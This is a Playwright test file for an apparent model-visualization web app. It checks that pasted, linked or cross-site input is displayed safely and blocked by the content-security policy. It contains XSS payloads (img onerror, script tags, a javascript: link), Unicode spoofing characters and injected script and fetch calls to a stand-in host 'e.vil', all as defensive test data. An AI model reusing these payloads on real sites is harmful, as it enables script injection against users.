"""Whatever is typed, pasted, brought or sent by another site: a clear message, nothing lost, nothing executed."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
from playwright.sync_api import Page, expect

from pages.kit.header import DEFAULT_TEXT
from tests.helpers.browser import rest, type_text, visit, wait_painted

TEXT = "still alive"
STRANGE = [
    "مرحبا بالعالم שלום",
    "😀 好電影 👩‍👩‍👧‍👦",
    "$x$ **b** [a](javascript:alert(1)) :red[x]",
    "\u202eevil \u200b \ufeff",
    "<img src=x onerror='window.hacked=1'><script>window.hacked=1</script>",
]
CLOSES = """(address) => new Promise((resolve) => {
  const socket = new WebSocket(address)
  socket.onopen = () => resolve("open")
  socket.onerror = () => resolve("refused")
})"""
ASKS = "(address) => fetch(address, { mode: 'no-cors' }).then((one) => one.type, (error) => String(error))"
BRINGS = """() => new Promise((resolve) => {
  const violations = []
  setTimeout(() => resolve(violations.sort()), 60_000) // where one is missing
  addEventListener("securitypolicyviolation", (event) => {
    violations.push(event.effectiveDirective)
    if (violations.length === 4) resolve(violations.sort())
  })
  const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values))
  add("script", { textContent: "window.hacked = 1" })
  add("script", { src: "http://e.vil/a.js" })
  add("img", { src: "http://e.vil/a.png" })
  fetch("http://e.vil/").catch(() => {})
})"""


def test_strange_text_is_shown_and_never_executed(page: Page, address: str) -> None:
    visit(page, address, "attention", text=TEXT)
    for text in STRANGE:
        type_text(page, text)
        wait_painted(page, f"0.0|{text}")
    for path, text in (("attention", STRANGE[-1]), ("", " ".join(STRANGE))):  # from a link too, and in Home's figures
        visit(page, address, path, text=text)
        expect(page.locator("[data-painted], [data-part=attention]").first).to_be_attached()
        rest(page)
        assert page.evaluate("() => window.hacked === undefined")


@pytest.mark.nightly
def test_a_text_that_cannot_be_read_leaves_the_last_picture_pale_and_says_so(page: Page, address: str) -> None:
    visit(page, address, "attention", text=TEXT)
    wait_painted(page, f"0.0|{TEXT}")
    picture = page.locator(".st-key-picture")
    expect(picture).to_have_css("opacity", "1")
    empty, none = f"The box is empty. This is still “{TEXT}”.", "no token for any of this text"
    unread = {"": empty, "\ufffd": none, "\u2061": none, "\U000e0041": none, "word " * 401: "2,005 characters"}
    for text, said in unread.items():
        type_text(page, text)
        expect(page.get_by_text(said)).to_be_visible()
        expect(picture).to_have_css("opacity", "0.4")
        expect(page.get_by_text("failed")).to_have_count(0)
        wait_painted(page, f"0.0|{TEXT}")
        assert "text=" in page.url  # shorter than a link may be
        type_text(page, TEXT)
        expect(picture).to_have_css("opacity", "1")
    type_text(page, "alive")
    wait_painted(page, "0.0|alive")


@pytest.mark.nightly
def test_a_link_with_an_empty_text_shows_the_example(page: Page, address: str) -> None:
    visit(page, address, "attention", text=" ")
    wait_painted(page, f"0.0|{DEFAULT_TEXT}")
    expect(page.get_by_text("Shown instead")).to_be_visible()
    expect(page.get_by_role("textbox").first).to_have_value(" ")


@pytest.mark.nightly
@pytest.mark.parametrize("part", ["beam", "steps"])
def test_a_word_without_end_makes_no_page_wider(page: Page, address: str, part: str) -> None:
    visit(page, address, "translation", translation_part=part)
    type_text(page, "\U0001f000" * 2_000)
    expect(page.get_by_role("textbox").first).to_have_value("\U0001f000" * 2_000)
    expect(page.get_by_text("tokens are read")).to_be_visible()
    rest(page)
    wide = "() => { const main = document.querySelector('.stMain'); return main.scrollWidth - main.clientWidth; }"
    assert page.evaluate(wide) <= 0


@pytest.mark.nightly
def test_ten_megabytes_pasted_are_refused_in_words_and_the_page_lives_on(page: Page, address: str) -> None:
    visit(page, address, "attention", text=TEXT)
    wait_painted(page, f"0.0|{TEXT}")
    page.get_by_role("textbox").first.evaluate(
        """(box) => {
          const set = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value").set;
          set.call(box, "word ".repeat(2 * 1024 * 1024));
          box.dispatchEvent(new Event("input", { bubbles: true }));
        }"""
    )
    expect(page.get_by_text("10,485,760 characters")).to_be_visible()
    type_text(page, TEXT)
    wait_painted(page, f"0.0|{TEXT}")


@pytest.mark.nightly
def test_a_link_that_asks_for_nonsense_is_answered_in_words_and_no_stack_trace(page: Page, address: str) -> None:
    nonsense = {"layer": "77", "model": "nonsense", "cell": "999.999", "step": "x", "head": "-1", "start": "x"}
    visit(page, address, "attention", text=TEXT, glass="nothing", **nonsense)
    wait_painted(page, f"0.0|{TEXT}")
    expect(page.get_by_text("layer = 77")).to_be_visible()
    expect(page.get_by_text("model = nonsense")).to_be_visible()
    expect(page.get_by_text("Traceback")).to_have_count(0)
    expect(page.get_by_test_id("stException")).to_have_count(0)


@pytest.mark.nightly
def test_an_address_that_was_typed_is_no_link(page: Page, address: str) -> None:
    addresses = "see http://e.vil/a www.e.vil me@e.vil [l](http://e.vil)"
    visit(page, address, "gpt", text=f"{addresses} {addresses}", gpt_guess_open="true")
    expect(page.get_by_test_id("stMain").get_by_text("e.vil").first).to_be_visible()
    assert page.locator("[data-testid=stMain] a[href*=vil]").count() == 0


@pytest.fixture
def other_app(address: str) -> Iterator[str]:
    """The address of another app on this machine, whose page shows ours in a frame."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f"<iframe src={address}/attention></iframe>".encode())

        def log_message(self, *_: object) -> None: ...

    server = HTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_a_page_of_another_local_app_opens_no_socket_and_shows_the_app_in_no_frame(
    own_page: Page, address: str, other_app: str
) -> None:
    said: list[str] = []
    own_page.on("console", lambda message: said.append(message.text))
    own_page.goto(other_app)
    stream = address.replace("http", "ws") + "/_stcore/stream"
    assert own_page.evaluate(CLOSES, stream) == "refused"
    expect(own_page.frame_locator("iframe").get_by_test_id("stApp")).to_have_count(0)
    assert any("frame-ancestors 'self'" in line for line in said)
    assert any("403" in line for line in said), "the socket was refused by the server, not by the browser"
    assert own_page.evaluate(ASKS, f"{address}/runs/underway").startswith("TypeError")


def test_what_comes_into_a_page_runs_no_script_and_fetches_nothing(own_page: Page, address: str) -> None:
    stopped = []
    own_page.on("requestfailed", lambda request: stopped.append((request.url, request.failure)))
    visit(own_page, address, "attention", text=TEXT)
    wait_painted(own_page, f"0.0|{TEXT}")
    assert own_page.evaluate(BRINGS) == ["connect-src", "img-src", "script-src-elem", "script-src-elem"]
    assert own_page.evaluate("() => window.hacked === undefined")
    assert stopped == [("http://e.vil/a.js", "csp"), ("http://e.vil/a.png", "csp")]


@pytest.mark.nightly
def test_a_file_to_download_is_taken_for_nothing_else(page: Page, address: str) -> None:
    visit(page, address, "tokens", text=TEXT)
    page.get_by_text("Export", exact=True).first.click()
    button = page.get_by_test_id("stDownloadButton").get_by_role("button").first
    with page.expect_download() as coming:
        button.click()
    headers = page.request.get(coming.value.url).headers
    assert headers["x-content-type-options"] == "nosniff"
    assert "frame-ancestors 'self'" in headers["content-security-policy"]
